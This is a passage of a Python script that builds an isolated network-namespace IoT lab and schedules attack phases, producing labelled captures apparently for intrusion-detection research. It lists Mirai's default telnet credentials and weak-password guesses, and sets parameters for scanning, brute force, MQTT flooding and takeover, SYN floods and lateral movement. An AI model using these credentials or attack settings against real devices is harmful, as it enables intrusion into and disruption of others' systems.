#!/usr/bin/env python3
"""spanwatch IoT lab generator.

Builds a private Ethernet segment out of Linux network namespaces (a bridge in
its own namespace, one namespace per host, veth pairs, no route out, nothing in
the host's root namespace), runs real IoT software in it (mosquitto, libcoap,
nginx, busybox httpd, inetutils telnetd with the real /bin/login), replays a
seeded schedule of attack phases with real tools (nmap, hydra, mosquitto
clients, coap-client, curl, hping3, a Mirai-style telnet client) and writes a
labelled capture:

    OUT/capture.pcap        tcpdump on the bridge (inside the bridge namespace)
    OUT/labels.csv          start_epoch,end_epoch,phase,attacker_ip,target_ips,tool,notes
    OUT/hosts.csv           ip,mac,name,role
    OUT/benign_events.csv   discrete benign events (operator logins, fw checks, ...)
    OUT/summary.txt         plan, per-phase outcome, tcpdump statistics
    OUT/plan.json           the seeded schedule (same as --plan-only)
    OUT/pids.json           registry of every process started and its state after teardown

Python 3 standard library only; run as root. See datasets/README.md.
"""

import argparse
import base64
import hashlib
import json
import os
import random
import secrets
import shutil
import signal
import socket
import string
import subprocess
import sys
import tempfile
import threading
import time

PREFIX = "swlab"
STATE_DIR = "/run/swlab"
BROKER_PORT = 1883
COAP_PORT = 5683

# Upper bounds (seconds) of each attack phase: every tool of a phase is killed
# when its phase budget runs out.
PHASE_BUDGET = {
    "recon_nmap_syn_scan": 8.0,
    "telnet_bruteforce_hydra": 12.0,
    "http_basic_auth_bruteforce": 6.0,
    "mqtt_bruteforce": 7.0,
    "mqtt_wildcard_subscribe": 6.0,
    "mqtt_publish_flood": 5.0,
    "mqtt_clientid_takeover": 6.0,
    "coap_discovery_tamper": 5.0,
    "http_firmware_download": 4.0,
    "mirai_telnet_login": 13.0,
    "lateral_movement": 12.0,
    "syn_flood_hping3": 6.0,
    # An outage, not a reboot: the irregular reboots (REBOOT_SILENCE) are off
    # the wire for at most 10 s, and a sensor publishes every 3-14 s, so a
    # silence must last several of its periods to be told from either.
    "device_silent": 50.0,
}
ALL_PHASES = list(PHASE_BUDGET)
PHASE_TOOL = {
    "recon_nmap_syn_scan": "nmap",
    "telnet_bruteforce_hydra": "hydra",
    "http_basic_auth_bruteforce": "hydra",
    "mqtt_bruteforce": "mosquitto_pub",
    "mqtt_wildcard_subscribe": "mosquitto_sub",
    "mqtt_publish_flood": "mosquitto_pub",
    "mqtt_clientid_takeover": "mosquitto_sub",
    "coap_discovery_tamper": "coap-client",
    "http_firmware_download": "curl",
    "mirai_telnet_login": "iotlab-mirai;busybox-wget",
    "lateral_movement": "nmap;iotlab-mirai;coap-client;curl;mosquitto_sub",
    "syn_flood_hping3": "hping3",
    "device_silent": "none",
}
# Bounded intensities.
NMAP_MAX_RATE = 900
NMAP_PORTS = "T:1-200,443,554,1883,2323,5683,7547,8080,8443,8883,U:5683"
HYDRA_TASKS = 4
MQTT_BRUTE_GUESSES = 12
FLOOD_MESSAGES = 1500
FLOOD_SECONDS = 3.0
SYN_FLOOD_COUNT = 1500
SYN_FLOOD_INTERVAL_US = 2000
MIRAI_FAILED_TRIES = 2
SETTLE = 1.0            # seconds after the last tool of a phase exits
WARMUP_MIN = 18.0
TAIL_MIN = 18.0
GAP_MIN = 1.5

# Benign irregular events: (first occurrence drawn in [lo, hi] s, then gaps
# drawn in [lo, hi] s). The hub's CoAP discovery happens once, at its start-up.
IRREGULAR_FIRST = (8.0, 60.0)
IRREGULAR_GAP = {
    "telnet_login_mistyped": (240.0, 600.0),
    "firmware_download": (300.0, 700.0),
    "device_reboot": (180.0, 480.0),
}
IRREGULAR_TOOL = {
    "coap_discovery": "coap-client",
    "telnet_login_mistyped": "busybox-telnet",
    "firmware_download": "curl",
    "device_reboot": "ip-link;ss;busybox-arping;mosquitto_pub",
}
DISCOVERY_SECONDS = 0.3      # one GET /.well-known/core and its answer
MISTYPE_SECONDS = 16.0       # a mistyped-then-good login session, end to end
FW_DOWNLOAD_SECONDS = 4.0
REBOOT_SILENCE = (4.0, 10.0)  # seconds a rebooting device is off the wire
REBOOT_BOOT = 2.0            # link up to software running (bridge port forwarding, ARP announce)
REBOOT_RECONNECT = 3.0       # seconds the window still covers once the software runs again
PHASE_MARGIN_BEFORE = 3.0    # no irregular event this close before a phase ...
PHASE_MARGIN_AFTER = 6.0     # ... or after its budget ends
END_MARGIN = 3.0

# Mirai's built-in dictionary (public knowledge). A camera's telnet account is
# one of these pairs; an account named root is an unprivileged lab account in
# the device's isolated login config (the real uid 0 stays locked).
MIRAI_DEFAULTS = [("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"),
                  ("root", "888888"), ("root", "xmhdipc"), ("root", "default"), ("root", "juantech"),
                  ("root", "123456"), ("root", "54321"), ("support", "support"), ("admin", "1234"),
                  ("user", "user"), ("guest", "guest"), ("ubnt", "ubnt"), ("tech", "tech"),
                  ("service", "service"), ("admin", "password")]
WEAK_PASSWORDS = ["plug1234", "password1", "iot2020", "smartplug", "letmein1", "qwerty12"]
WEB_WEAK_PASSWORDS = ["admin123", "camera1", "12345678", "pass1234"]
COMMON_GUESSES = ["123456", "password", "admin", "12345", "1234", "root", "test",
                  "guest", "qwerty", "111111", "changeme", "default", "iot", "raspberry",
                  "letmein", "abc123"]
# MQTT user names the brute-force phase tries before the plug's own user: no
# lab account may be called like this.
BRUTE_WRONG_USERS = ("admin", "mqtt")

KINDS = {
    "cloud": "MQTT broker (mosquitto) + firmware update server (nginx)",
    "hub": "home gateway: MQTT subscriber to the whole topic tree, CoAP + HTTP poller, plug commands",
    "ops": "operator workstation: telnet admin sessions to the router",
    "temp": "temperature sensor: MQTT QoS0 over one persistent connection",
    "hum": "humidity sensor: new MQTT connection per reading, QoS1",
    "plug": "smart plug: MQTT QoS1 power telemetry + command subscriber",
    "soil": "soil sensor: CoAP server (libcoap coap-server)",
    "cam": "IP camera: nginx web UI (basic auth) + telnetd (default credential)",
    "thermo": "thermostat: busybox httpd UI (basic auth) + MQTT QoS1 + firmware checks",
    "rtr": "router: inetutils telnetd + /bin/login (operator account)",
    "atk": "attacker",
}
MQTT_KINDS = ("hub", "temp", "hum", "plug", "thermo")

# IEEE MA-L assignments (OUI -> organisation as registered), every one checked
# against Debian's ieee-data (/usr/share/ieee-data/oui.csv) by test_lab.py.
OUI_ORG = {
    "240AC4": "Espressif Inc.", "246F28": "Espressif Inc.", "30AEA4": "Espressif Inc.",
    "84F3EB": "Espressif Inc.", "A4CF12": "Espressif Inc.", "7C9EBD": "Espressif Inc.",
    "1C90FF": "Tuya Smart Inc.", "D4A651": "Tuya Smart Inc.", "10D561": "Tuya Smart Inc.",
    "50C7BF": "TP-LINK TECHNOLOGIES CO.,LTD.", "603A7C": "TP-LINK TECHNOLOGIES CO.,LTD.",
    "B0BE76": "TP-LINK TECHNOLOGIES CO.,LTD.", "98DAC4": "TP-LINK TECHNOLOGIES CO.,LTD.",
    "4447CC": "Hangzhou Hikvision Digital Technology Co.,Ltd.",
    "5803FB": "Hangzhou Hikvision Digital Technology Co.,Ltd.",
    "C056E3": "Hangzhou Hikvision Digital Technology Co.,Ltd.",
    "BCAD28": "Hangzhou Hikvision Digital Technology Co.,Ltd.",
    "08EDED": "Zhejiang Dahua Technology Co., Ltd.", "3CEF8C": "Zhejiang Dahua Technology Co., Ltd.",
    "E0508B": "Zhejiang Dahua Technology Co., Ltd.", "74C929": "Zhejiang Dahua Technology Co., Ltd.",
    "7483C2": "Ubiquiti Networks Inc.", "F09FC2": "Ubiquiti Networks Inc.", "24A43C": "Ubiquiti Networks Inc.",
    "000C42": "Routerboard.com", "4C5E0C": "Routerboard.com", "B869F4": "Routerboard.com",
    "B827EB": "Raspberry Pi Foundation", "DCA632": "Raspberry Pi Trading Ltd",
    "E45F01": "Raspberry Pi Trading Ltd", "28CDC1": "Raspberry Pi Trading Ltd",
    "18B430": "Nest Labs Inc.", "641666": "Nest Labs Inc.",
    "B82CA0": "Resideo", "48A2E6": "Resideo",
    "98E743": "Dell Inc.", "F8BC12": "Dell Inc.", "D4BED9": "Dell Inc.", "B083FE": "Dell Inc.",
    "A0369F": "Intel Corporate", "7C7A91": "Intel Corporate", "ACED5C": "Intel Corporate",
    "9C7BEF": "Hewlett Packard", "48BA4E": "Hewlett Packard", "3024A9": "HP Inc.",
    "001132": "Synology Incorporated", "9009D0": "Synology Incorporated",
}
VENDOR_OUIS = {
    "espressif": ["240AC4", "246F28", "30AEA4", "84F3EB", "A4CF12", "7C9EBD"],
    "tuya": ["1C90FF", "D4A651", "10D561"],
    "tplink": ["50C7BF", "603A7C", "B0BE76", "98DAC4"],
    "hikvision": ["4447CC", "5803FB", "C056E3", "BCAD28"],
    "dahua": ["08EDED", "3CEF8C", "E0508B", "74C929"],
    "ubiquiti": ["7483C2", "F09FC2", "24A43C"],
    "mikrotik": ["000C42", "4C5E0C", "B869F4"],
    "raspberrypi": ["B827EB", "DCA632", "E45F01", "28CDC1"],
    "nest": ["18B430", "641666"],
    "resideo": ["B82CA0", "48A2E6"],
    "dell": ["98E743", "F8BC12", "D4BED9", "B083FE"],
    "intel": ["A0369F", "7C7A91", "ACED5C"],
    "hp": ["9C7BEF", "48BA4E", "3024A9"],
    "synology": ["001132", "9009D0"],
}
KIND_VENDORS = {
    "temp": ["espressif", "tuya"], "hum": ["espressif", "tuya"], "soil": ["espressif", "tuya"],
    "plug": ["espressif", "tuya", "tplink"], "thermo": ["nest", "resideo", "espressif"],
    "cam": ["hikvision", "dahua"], "rtr": ["tplink", "ubiquiti", "mikrotik"], "hub": ["raspberrypi"],
    "ops": ["dell", "intel", "hp"], "atk": ["dell", "intel", "hp"], "cloud": ["synology", "dell"],
}

# Vocabulary the names, topics, paths and banners are drawn from.
ROOMS = ["kitchen", "livingroom", "bedroom", "garage", "office", "hall", "attic", "cellar", "porch",
         "garden", "study", "nursery", "bath", "greenhouse", "workshop", "loft"]
KIND_WORDS = {
    "temp": ["temp", "thermometer", "th", "dht22", "ds18b20", "climate"],
    "hum": ["hum", "humidity", "hygro", "rh", "sht31", "bme280"],
    "plug": ["plug", "socket", "outlet", "switch", "relay", "powerplug"],
    "thermo": ["thermostat", "tstat", "hvac", "heating", "radiator"],
    "hub": ["hub", "gateway", "homebridge", "bridge", "controller", "homeserver"],
    "cam": ["ipcam", "cam", "cctv", "dvr", "doorcam", "nvr"],
    "rtr": ["router", "gw", "edge", "core", "ap"],
}
CLIENT_ID_WORDS = ["esp32", "esp8266", "tasmota", "node", "dev", "mcu", "iot"]
TOPIC_ROOTS = ["home", "house", "myhome", "smarthome", "iot", "devices", "sensors", "site/{site}",
               "bldg{n}", "flat{n}"]
SITES = ["north", "annex", "lab", "depot", "cabin", "farm", "studio", "west"]
TOPIC_LAYOUTS = ["device", "room", "metric"]   # root/dev/leaf, root/room/dev/leaf, root/leaf/dev
TOPIC_LEAVES = {
    "temp": ["temp", "temperature", "sensor/temperature", "state/temp", "t"],
    "hum": ["humidity", "hum", "sensor/humidity", "rh"],
    "power": ["power", "energy/power", "sensor/power", "watts"],
    "thermo": ["status", "state", "climate", "telemetry"],
    "cmd": ["cmd", "set", "command", "relay/0/command", "switch/set"],
}
PAYLOADS = {
    "temp": ['{"t":%.1f}', '{"temperature":%.1f}', '%.1f', '{"temp":%.2f,"unit":"C"}'],
    "hum": ['{"rh":%d}', '{"humidity":%d}', '%d', '{"hum":%d,"unit":"%%"}'],
    "power": ['{"w":%.1f}', '{"power":%.1f}', '%.1f', '{"ENERGY":{"Power":%.0f}}'],
    "thermo": ['{"t":%.1f,"set":%.1f}', '{"temperature":%.1f,"setpoint":%.1f}',
               '{"current":%.1f,"target":%.1f,"mode":"heat"}'],
}
COMMAND_PAYLOADS = [("ON", "OFF"), ("on", "off"), ("1", "0"), ('{"state":"ON"}', '{"state":"OFF"}')]
KEEPALIVES = [15, 20, 30, 45, 60, 90, 120]   # seconds; the broker's max_keepalive is 120
WEB_USERS = ["admin", "admin", "admin", "user", "operator", "viewer"]
ADMIN_PATHS = ["/admin/", "/cgi-bin/", "/config/", "/settings/", "/setup/", "/web/", "/manage/"]
BUSYBOX_HTTPD_SPECIAL = ("/cgi-bin/",)   # busybox httpd runs files there as CGI
STATUS_FILES = ["status.json", "info.json", "device.json", "state.json"]
SNAPSHOT_FILES = ["snapshot.jpg", "snap.jpg", "image.jpg", "still.jpg", "capture.jpg"]
OPERATOR_USERS = ["netadmin", "noc", "ops", "sysop", "operator", "itadmin", "jdoe", "mbauer", "akim"]
FW_ROOTS = ["/fw", "/firmware", "/ota", "/updates", "/dl/firmware"]
FW_MANIFESTS = ["latest.json", "version.json", "manifest.json", "ota.json"]
FW_IMAGES = ["{model}_{version}.bin", "firmware-{version}.bin", "{model}-{version}.img", "update_{version}.pkg",
             "firmware.bin"]
FW_MODEL_PREFIXES = {"cam": ["IPC-", "DS-2CD", "NVC-", "HDW", "CAM-"], "thermo": ["TST-", "T", "THM-", "HVAC-"]}
FW_SIZE = (256 * 1024, 768 * 1024)
UPDATER_AGENTS = ["{model}-fw/{version}", "ota-client/{a}.{b}", "{model}/{version} (firmware updater)",
                  "ESP32-http-Update", "uclient-fetch"]
HUB_AGENTS = ["HomeHub/{a}.{b}.{c}", "hubd/{a}.{b}", "gateway-agent/{a}.{b}", "node-poller/{a}.{b}.{c}", None]
CAM_ISSUES = ["{model} Network Camera\nfirmware {version}\n", "{hostname}\n", "\n{model}\n\n", ""]
MOTDS = ["{model} firmware {version} -- authorised access only\n",
         "Unauthorised access to this device is prohibited.\nAll activity is recorded.\n",
         "\n  {hostname}  ({model})\n\n", ""]

TOOLS = {  # binary -> Debian package
    "/usr/sbin/mosquitto": "mosquitto",
    "/usr/bin/mosquitto_pub": "mosquitto-clients",
    "/usr/bin/mosquitto_sub": "mosquitto-clients",
    "/usr/bin/mosquitto_passwd": "mosquitto",
    "/usr/bin/coap-server-notls": "libcoap3-bin",
    "/usr/bin/coap-client-notls": "libcoap3-bin",
    "/usr/sbin/nginx": "nginx-light",
    "/bin/busybox": "busybox",
    "/usr/bin/hydra": "hydra",
    "/usr/bin/nmap": "nmap",
    "/usr/sbin/hping3": "hping3",
    "/usr/bin/tcpdump": "tcpdump",
    "/usr/bin/tshark": "tshark",
    "/usr/sbin/telnetd": "inetutils-telnetd",
    "/bin/login": "login",
    "/usr/bin/curl": "curl",
    "/usr/bin/unshare": "util-linux",
    "/bin/mount": "mount",
    "/sbin/ip": "iproute2",
    "/bin/ss": "iproute2",
    "/sbin/bridge": "iproute2",
}


class LabError(Exception):
    """A failure that aborts the run (teardown still happens)."""


class LabInterrupted(Exception):
    """SIGINT/SIGTERM received."""


def log(msg):
    sys.stderr.write("[iotlab %s] %s\n" % (time.strftime("%H:%M:%S"), msg))
    sys.stderr.flush()


# --------------------------------------------------------------------------
# Plan: a pure function of (seed, duration, phases).
# --------------------------------------------------------------------------

def parse_phases(spec):
    if spec == "all":
        return list(ALL_PHASES)
    if spec == "none":
        return []
    names = [p.strip() for p in spec.split(",") if p.strip()]
    bad = [p for p in names if p not in PHASE_BUDGET]
    if bad:
        raise LabError("unknown phase(s): %s (known: %s)" % (",".join(bad), ",".join(ALL_PHASES)))
    return list(dict.fromkeys(names))


def stream(seed, aspect):
    """An independent random stream per aspect of the plan (network, names,
    periods, ...), so that drawing more of one aspect never shifts another."""
    return random.Random("%s:%s" % (seed, aspect))


def draw_subnet(rng):
    """A private /24 (RFC 1918): from 10/8, 172.16/12 or 192.168/16."""
    block = rng.choice(["10", "172", "192"])
    if block == "10":
        return "10.%d.%d" % (rng.randrange(256), rng.randrange(256))
    if block == "172":
        return "172.%d.%d" % (rng.randint(16, 31), rng.randrange(256))
    return "192.168.%d" % rng.randrange(256)


def draw_network(seed, hosts):
    """Subnet, host numbers (unique, never .0 or .255) and MAC addresses: a real
    vendor OUI for the device's kind, the lower three bytes drawn (unique)."""
    rng = stream(seed, "network")
    prefix = draw_subnet(rng)
    numbers = rng.sample(range(1, 255), len(hosts))
    macs = set()
    for h, n in zip(hosts, numbers):
        h["ip"] = "%s.%d" % (prefix, n)
        vendor = rng.choice(KIND_VENDORS[h["kind"]])
        oui = rng.choice(VENDOR_OUIS[vendor])
        while True:
            low = rng.getrandbits(24)
            mac = ":".join([oui[0:2], oui[2:4], oui[4:6]] + ["%02x" % ((low >> s) & 0xFF) for s in (16, 8, 0)]).lower()
            if mac not in macs:
                break
        macs.add(mac)
        h["mac"] = mac
        h["vendor"] = OUI_ORG[oui]
    return prefix


def _unique(rng, taken, make):
    """make(rng), with a drawn suffix while the name is already taken."""
    name = make(rng)
    while name in taken:
        name = "%s-%02x" % (make(rng), rng.getrandbits(8))
    taken.add(name)
    return name


def _mac_tail(h, nbytes, upper):
    tail = "".join(h["mac"].split(":")[6 - nbytes:])
    return tail.upper() if upper else tail


def draw_identities(seed, hosts, by_kind):
    """What the devices show on the wire: device names, MQTT users, client ids,
    topics and payloads, web paths and realms, user agents, hostnames, banners,
    firmware file names."""
    rng = stream(seed, "identity")
    wire_names, users, client_ids = set(BRUTE_WRONG_USERS), set(BRUTE_WRONG_USERS), set()
    root = rng.choice(TOPIC_ROOTS).format(site=rng.choice(SITES), n=rng.randint(1, 40))
    layout = rng.choice(TOPIC_LAYOUTS)
    leaves = {k: rng.choice(v) for k, v in sorted(TOPIC_LEAVES.items())}
    user_style = rng.choice(["wire", "mac", "word"])
    firmware = {}
    fw_root = rng.choice(FW_ROOTS)
    fw_manifest = rng.choice(FW_MANIFESTS)
    fw_image = rng.choice(FW_IMAGES)
    for kind in ("cam", "thermo"):
        model = rng.choice(FW_MODEL_PREFIXES[kind]) + str(rng.randint(100, 9999))
        version = "%d.%d.%d" % (rng.randint(1, 5), rng.randint(0, 19), rng.randint(0, 99))
        d = "%s/%s" % (fw_root, model.lower())
        firmware[kind] = dict(model=model, version=version, manifest="%s/%s" % (d, fw_manifest),
                              image="%s/%s" % (d, fw_image.format(model=model.lower(), version=version)),
                              size=rng.randint(*FW_SIZE))

    def name_device(h):
        """The device's own name, and the room it is in."""
        words = KIND_WORDS[h["kind"]]
        room = rng.choice(ROOMS)
        style = rng.randrange(5)
        if style == 0:
            make = lambda r: "%s-%s" % (r.choice(words), room)  # noqa: E731
        elif style == 1:
            make = lambda r: "%s-%s" % (room, r.choice(words))  # noqa: E731
        elif style == 2:
            make = lambda r: "%s_%s" % (r.choice(words), _mac_tail(h, 3, True))  # noqa: E731
        elif style == 3:
            make = lambda r: "%s-%s" % (r.choice(words), _mac_tail(h, 2, False))  # noqa: E731
        else:
            make = lambda r: "%s%d" % (r.choice(words), r.randint(1, 99))  # noqa: E731
        h["wire_name"] = _unique(rng, wire_names, make)
        return room

    def topic(h, leaf):
        if layout == "device":
            return "%s/%s/%s" % (root, h["wire_name"], leaf)
        if layout == "room":
            return "%s/%s/%s/%s" % (root, h["room"], h["wire_name"], leaf)
        return "%s/%s/%s" % (root, leaf, h["wire_name"])

    for h in hosts:
        k = h["kind"]
        if k in KIND_WORDS:
            room = name_device(h)
            if k in ("temp", "hum", "plug", "thermo"):
                h["room"] = room
        if k in MQTT_KINDS:
            if user_style == "wire":
                h["mqtt_user"] = _unique(rng, users, lambda r: h["wire_name"])
            elif user_style == "mac":
                h["mqtt_user"] = _unique(rng, users, lambda r: "dev-%s" % _mac_tail(h, 3, False))
            else:
                h["mqtt_user"] = _unique(rng, users, lambda r: "%s_%04x" % (r.choice(KIND_WORDS[k]),
                                                                            r.getrandbits(16)))
            # client ids: the device name, with a suffix, the chip and MAC (ESP/Tasmota
            # firmware style; not for the hub), or a random library-made id
            style = rng.randrange(4 if k != "hub" else 3)
            if style == 0:
                cid = h["wire_name"]
            elif style == 1:
                cid = "%s-%04x" % (h["wire_name"], rng.getrandbits(16))
            elif style == 2:
                cid = "mqtt-%08x" % rng.getrandbits(32)
            else:
                cid = "%s_%s" % (rng.choice(CLIENT_ID_WORDS), _mac_tail(h, 3, True))
            h["client_id"] = _unique(rng, client_ids, lambda r: cid)
        if k == "temp":
            h["topic"] = topic(h, leaves["temp"])
            h["payload"] = rng.choice(PAYLOADS["temp"])
        elif k == "hum":
            h["topic"] = topic(h, leaves["hum"])
            h["payload"] = rng.choice(PAYLOADS["hum"])
            # one connection per reading: the same client id each time, or a fresh suffix
            h["client_id_suffix"] = rng.random() < 0.5
        elif k == "plug":
            h["topic"] = topic(h, leaves["power"])
            h["cmd_topic"] = topic(h, leaves["cmd"])
            h["payload"] = rng.choice(PAYLOADS["power"])
            h["cmd_client_id"] = _unique(rng, client_ids, lambda r: "%s-cmd%d" % (h["client_id"], r.randint(0, 9)))
        elif k == "thermo":
            h["topic"] = topic(h, leaves["thermo"])
            h["payload"] = rng.choice(PAYLOADS["thermo"])
            h["setpoint"] = rng.choice([19.0, 19.5, 20.0, 20.5, 21.0, 21.5, 22.0])
        elif k == "hub":
            h["cmd_client_id"] = _unique(rng, client_ids, lambda r: "%s-pub%d" % (h["client_id"], r.randint(0, 9)))
            ua = rng.choice(HUB_AGENTS)
            h["user_agent"] = ua and ua.format(a=rng.randint(0, 4), b=rng.randint(0, 20), c=rng.randint(0, 9))
        if k in ("cam", "thermo"):
            fw = firmware[k]
            h["firmware"] = k
            h["user_agent"] = rng.choice(UPDATER_AGENTS).format(
                model=fw["model"], version=fw["version"], a=rng.randint(1, 3), b=rng.randint(0, 9))
            paths = [p for p in ADMIN_PATHS if k == "cam" or p not in BUSYBOX_HTTPD_SPECIAL]
            h["web"] = dict(user=rng.choice(WEB_USERS), path=rng.choice(paths), status=rng.choice(STATUS_FILES))
            if k == "cam":
                h["web"]["snapshot"] = rng.choice(SNAPSHOT_FILES)
                h["web"]["server_tokens"] = rng.random() < 0.5
                h["web"]["title"] = "%s %s" % (fw["model"], h["wire_name"])
            h["web"]["realm"] = rng.choice([fw["model"], h["wire_name"], "Login to %s" % fw["model"],
                                           "Restricted", "Web UI"])
        if k in ("cam", "rtr"):
            # hostname (the login prompt) and banners of its telnet service
            h["hostname"] = h["wire_name"] if rng.random() < 0.6 else \
                "%s-%s" % (h["wire_name"].split("-")[0].split("_")[0], _mac_tail(h, 3, True))
            model = firmware["cam"]["model"] if k == "cam" else \
                "%s%d" % (rng.choice(["AX", "RB", "ER-", "AC"]), rng.randint(100, 5000))
            version = firmware["cam"]["version"] if k == "cam" else "%d.%d" % (rng.randint(1, 7), rng.randint(0, 30))
            fill = dict(model=model, version=version, hostname=h["hostname"])
            if k == "cam":
                h["issue"] = rng.choice(CAM_ISSUES).format(**fill)
            h["motd"] = rng.choice(MOTDS).format(**fill)
    operator = rng.choice(OPERATOR_USERS)
    command_payloads = rng.choice(COMMAND_PAYLOADS)
    return dict(root=root, layout=layout, command_payloads=list(command_payloads)), firmware, operator


def draw_periods(seed, hosts):
    """Publish intervals, keepalives and polling intervals (seconds)."""
    rng = stream(seed, "periods")
    for h in hosts:
        k = h["kind"]
        if k == "temp":
            h["period"] = round(rng.uniform(3.0, 10.0), 2)
            h["qos"] = 0
            h["keepalive"] = rng.choice(KEEPALIVES)
        elif k == "hum":
            h["period"] = round(rng.uniform(7.0, 14.0), 2)
            h["qos"] = 1
            h["keepalive"] = rng.choice(KEEPALIVES)
        elif k == "plug":
            h["period"] = round(rng.uniform(5.0, 15.0), 2)
            h["qos"] = 1
            h["keepalive"] = rng.choice(KEEPALIVES)
            h["cmd_keepalive"] = rng.choice(KEEPALIVES)
        elif k == "thermo":
            h["period"] = round(rng.uniform(6.0, 15.0), 2)
            h["qos"] = 1
            h["keepalive"] = rng.choice(KEEPALIVES)
        elif k == "hub":
            h["keepalive"] = rng.choice(KEEPALIVES)

    def span(lo_min, lo_max, width_min, width_max):
        lo = round(rng.uniform(lo_min, lo_max), 1)
        return [lo, round(lo + rng.uniform(width_min, width_max), 1)]
    polls = dict(coap_get=span(4.0, 9.0, 2.0, 6.0), http_cam=span(5.0, 10.0, 2.0, 5.0),
                 http_thermo=span(10.0, 20.0, 3.0, 8.0))
    events = dict(telnet_admin_login=span(30.0, 60.0, 20.0, 50.0), fw_update_check=span(25.0, 60.0, 15.0, 45.0),
                  coap_observe=span(25.0, 50.0, 15.0, 40.0), mqtt_command=span(15.0, 30.0, 10.0, 30.0),
                  coap_observe_secs=round(rng.uniform(5.0, 10.0), 1))
    return polls, events


def draw_credential_choices(seed, by_kind):
    """Which weak or default credential each device has. Passwords never enter
    the plan: the lab calls this again to configure the devices."""
    rng = stream(seed, "credentials")
    weak = {h["name"]: rng.choice(WEAK_PASSWORDS) for h in by_kind["plug"] if h.get("weak")}
    cams = {h["name"]: dict(telnet=rng.choice(MIRAI_DEFAULTS), web=rng.choice(WEB_WEAK_PASSWORDS))
            for h in by_kind["cam"]}
    return weak, cams


def build_hosts(rng):
    counts = {"temp": rng.randint(1, 3), "hum": rng.randint(1, 2), "plug": rng.randint(1, 2),
              "soil": rng.randint(1, 2), "cam": rng.randint(1, 2), "thermo": rng.randint(1, 2)}
    hosts = [dict(name="cloud", kind="cloud"), dict(name="hub", kind="hub"), dict(name="ops", kind="ops")]
    for kind in ("temp", "hum", "plug", "soil", "cam", "thermo"):
        for n in range(counts[kind]):
            hosts.append(dict(name="%s%d" % (kind, n + 1), kind=kind))
    hosts.append(dict(name="rtr1", kind="rtr"))
    hosts.append(dict(name="atk", kind="atk"))
    for h in hosts:
        h["role"] = KINDS[h["kind"]]
    # one plug has a weak MQTT password and an over-broad ACL (the way in)
    rng.choice([h for h in hosts if h["kind"] == "plug"])["weak"] = True
    return hosts


def _events(rng, kind, start, end, lo, hi, forced, src, dst):
    """Seeded event times in [start, end): intervals in [lo, hi] plus forced times."""
    times = list(forced)
    t = start + rng.uniform(0, lo)
    while t < end:
        times.append(t)
        t += rng.uniform(lo, hi)
    return [dict(t=round(x, 2), kind=kind, src=src, dst=dst) for x in sorted(times) if start <= x < end]


def free_start(t, length, busy, end):
    """The first start >= t of a [start, start+length] span that overlaps no busy
    interval and ends by `end`; None if there is none."""
    moved = True
    while moved:
        moved = False
        for s, e in busy:
            if t < e and t + length > s:
                t, moved = e, True
    return t if t + length <= end else None


def plan_irregular(seed, duration, phases, by_kind):
    """Benign irregular events, outside every phase window (with margins)."""
    rng = stream(seed, "irregular")
    broker, hub = by_kind["cloud"][0], by_kind["hub"][0]
    ev = []
    t = rng.uniform(0.2, 0.8)   # the hub's start-up
    for soil in by_kind["soil"]:
        ev.append(dict(t=round(t, 2), seconds=DISCOVERY_SECONDS, kind="coap_discovery", src=hub["ip"],
                       dst=soil["ip"], params=dict(path="/.well-known/core")))
        t += DISCOVERY_SECONDS
    busy = [(p["start_offset"] - PHASE_MARGIN_BEFORE, p["start_offset"] + p["budget"] + PHASE_MARGIN_AFTER)
            for p in phases]
    end = duration - END_MARGIN
    for kind in sorted(IRREGULAR_GAP):
        lo, hi = IRREGULAR_GAP[kind]
        t = rng.uniform(*IRREGULAR_FIRST)
        while t < end:
            if kind == "telnet_login_mistyped":
                length = MISTYPE_SECONDS
                src, dst, params = by_kind["ops"][0], by_kind["rtr"][0], dict(commands=["uptime", "exit"])
            elif kind == "firmware_download":
                length = FW_DOWNLOAD_SECONDS
                src = rng.choice(by_kind["cam"] + by_kind["thermo"])
                dst = broker
                params = dict(device=src["name"], firmware=src["firmware"])
            else:
                silence = round(rng.uniform(*REBOOT_SILENCE), 1)
                length = silence + REBOOT_BOOT + REBOOT_RECONNECT
                src = rng.choice(by_kind["temp"] + by_kind["plug"])
                dst = broker
                params = dict(device=src["name"], silence=silence, client_id=src["client_id"])
            start = free_start(t, length, busy, end)
            if start is None:
                break
            ev.append(dict(t=round(start, 2), seconds=length, kind=kind, src=src["ip"], dst=dst["ip"], params=params))
            t = start + length + rng.uniform(lo, hi)
    ev.sort(key=lambda e: (e["t"], e["kind"], e["src"], e["dst"]))
    return ev


def make_plan(seed, duration, phases):
    rng = random.Random(seed)
    hosts = build_hosts(rng)
    by_kind = {}
    for h in hosts:
        by_kind.setdefault(h["kind"], []).append(h)
    first = {k: v[0] for k, v in by_kind.items()}
    net = draw_network(seed, hosts)
    subnet = "%s.0/24" % net
    mqtt, firmware, operator = draw_identities(seed, hosts, by_kind)
    polls, intervals = draw_periods(seed, hosts)
    weak_pw, cam_creds = draw_credential_choices(seed, by_kind)
    for h in by_kind["cam"]:
        h["telnet_user"] = cam_creds[h["name"]]["telnet"][0]

    order = [p for p in ALL_PHASES if p in phases]
    rng.shuffle(order)
    if "mirai_telnet_login" in order and "lateral_movement" in order:
        a, b = order.index("mirai_telnet_login"), order.index("lateral_movement")
        if b < a:
            order[a], order[b] = order[b], order[a]

    need = sum(PHASE_BUDGET[p] for p in order) + GAP_MIN * max(0, len(order) - 1)
    warm, tail = WARMUP_MIN, TAIL_MIN
    if warm + need + tail > duration:
        raise LabError("--duration %.0f is too short for %d phase(s): need at least %.0f s"
                       % (duration, len(order), warm + need + tail))
    slack = duration - (warm + need + tail)
    weights = [rng.uniform(0.5, 1.5) for _ in range(len(order) + 1)]
    total_w = sum(weights)
    extra = [slack * w / total_w for w in weights]
    atk = first["atk"]
    broker = first["cloud"]
    cams = by_kind["cam"]
    weak_plug = next(h for h in by_kind["plug"] if h.get("weak"))
    persistent = by_kind["temp"]
    silent_candidates = by_kind["temp"] + by_kind["hum"]
    plan_phases = []
    t = warm + extra[0]
    for i, name in enumerate(order):
        targets, params = [], {}
        attacker = atk["ip"]
        if name == "recon_nmap_syn_scan":
            targets = [subnet]
            params = {"ports": NMAP_PORTS, "max_rate": NMAP_MAX_RATE}
        elif name == "telnet_bruteforce_hydra":
            tgt = rng.choice(cams)
            targets = [tgt["ip"]]
            params = {"target": tgt["name"], "tasks": HYDRA_TASKS}
        elif name == "http_basic_auth_bruteforce":
            tgt = rng.choice(cams)
            targets = [tgt["ip"]]
